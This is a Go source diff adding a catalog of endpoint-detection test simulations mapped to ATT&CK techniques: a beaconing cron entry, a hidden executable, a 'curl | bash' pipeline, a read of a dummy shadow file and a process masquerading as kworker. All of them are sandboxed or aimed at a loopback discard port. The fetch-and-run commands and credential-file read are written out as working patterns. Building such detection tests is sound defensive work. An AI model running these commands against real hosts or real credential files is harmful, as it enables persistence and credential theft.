@@ -0,0 +1,151 @@
+package edr
+
+import (
+	"crypto/rand"
+	"encoding/hex"
+	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
+)
+
+var unixPlatforms = []string{"linux", "darwin"}
+
+// Catalog returns every behaviour simulation known to the agent
+func Catalog() []Simulation {
+	return []Simulation{
+		{
+			ID:          "cron-entry",
+			TechniqueID: "T1053.003",
+			Name:        "Scheduled Task/Job: Cron",
+			Tactic:      "persistence",
+			Platforms:   unixPlatforms,
+			run:         simulateCronEntry,
+		},
+		{
+			ID:          "hidden-executable",
+			TechniqueID: "T1564.001",
+			Name:        "Hide Artifacts: Hidden Files and Directories",
+			Tactic:      "defense-evasion",
+			Platforms:   unixPlatforms,
+			run:         simulateHiddenExecutable,
+		},
+		{
+			ID:          "curl-pipe-bash",
+			TechniqueID: "T1059.004",
+			Name:        "Command and Scripting Interpreter: Unix Shell",
+			Tactic:      "execution",
+			Platforms:   unixPlatforms,
+			run:         simulateCurlPipeBash,
+		},
+		{
+			ID:          "shadow-read",
+			TechniqueID: "T1003.008",
+			Name:        "OS Credential Dumping: /etc/passwd and /etc/shadow",
+			Tactic:      "credential-access",
+			Platforms:   []string{"linux"},
+			run:         simulateShadowRead,
+		},
+		{
+			ID:          "masqueraded-process",
+			TechniqueID: "T1036.005",
+			Name:        "Masquerading: Match Legitimate Name or Location",
+			Tactic:      "defense-evasion",
+			Platforms:   unixPlatforms,
+			run:         simulateMasqueradedProcess,
+		},
+	}
+}
+
+// simulateCronEntry writes a beaconing cron entry into a crontab inside the sandboxed HOME
+func simulateCronEntry(env *environment) (string, error) {
+	path, err := env.path("home", ".crontab")
+	if err != nil {
+		return "", err
+	}
+
+	entry := "*/5 * * * * curl -fsS http://127.0.0.1:9/beacon | sh # dlpagent EDR simulation\n"
+	if err := env.writeArtifact(path, []byte(entry), 0600); err != nil {
+		return "", err
+	}
+	if err := env.observe(path); err != nil {
+		return "", err
+	}
+
+	return "cron entry written to " + path, nil
+}
+
+// simulateHiddenExecutable drops a hidden executable script in the temp directory and runs it
+func simulateHiddenExecutable(env *environment) (string, error) {
+	suffix := make([]byte, 4)
+	rand.Read(suffix)
+	path := filepath.Join(os.TempDir(), ".dlpagent-"+hex.EncodeToString(suffix))
+	env.track(path)
+
+	if err := env.writeArtifact(path, []byte("#!/bin/sh\nexit 0\n"), 0700); err != nil {
+		return "", err
+	}
+	if err := env.observe(path); err != nil {
+		return "", err
+	}
+	if _, err := env.run(path); err != nil {
+		return "", err
+	}
+
+	return "hidden executable " + path + " created and executed", nil
+}
+
+// simulateCurlPipeBash runs a shell command line that looks like a curl-pipe-to-bash installer.
+// The URL points at the discard port on loopback, so nothing is downloaded or executed.
+func simulateCurlPipeBash(env *environment) (string, error) {
+	code, err := env.shell("curl -fsSL --max-time 2 http://127.0.0.1:9/install.sh | bash", "curl", "bash")
+	if err != nil {
+		return "", err
+	}
+
+	return fmt.Sprintf("curl | bash pipeline ran (exit code %d)", code), nil
+}
+
+// simulateShadowRead reads a dummy copy of /etc/shadow from the sandbox with cat
+func simulateShadowRead(env *environment) (string, error) {
+	path, err := env.path("etc", "shadow")
+	if err != nil {
+		return "", err
+	}
+
+	dummy := "root:$6$dlpagent$simulation.hash.not.real:19000:0:99999:7:::\n" +
+		"agent:!:19000:0:99999:7:::\n"
+	if err := env.writeArtifact(path, []byte(dummy), 0600); err != nil {
+		return "", err
+	}
+	if _, err := env.run("cat", path); err != nil {
+		return "", err
+	}
+
+	return "dummy shadow file " + path + " read", nil
+}
+
+// simulateMasqueradedProcess copies a harmless binary under a kernel-thread-like name and runs it
+func simulateMasqueradedProcess(env *environment) (string, error) {
+	source, err := exec.LookPath("sleep")
+	if err != nil {
+		return "", fmt.Errorf("sleep binary not found: %w", err)
+	}
+	binary, err := os.ReadFile(source)
+	if err != nil {
+		return "", fmt.Errorf("failed to read %s: %w", source, err)
+	}
+
+	path, err := env.path("bin", "kworker")
+	if err != nil {
+		return "", err
+	}
+	if err := env.writeArtifact(path, binary, 0700); err != nil {
+		return "", err
+	}
+	if _, err := env.run(path, "1"); err != nil {
+		return "", err
+	}
+
+	return "process " + path + " ran masquerading as kworker", nil
+}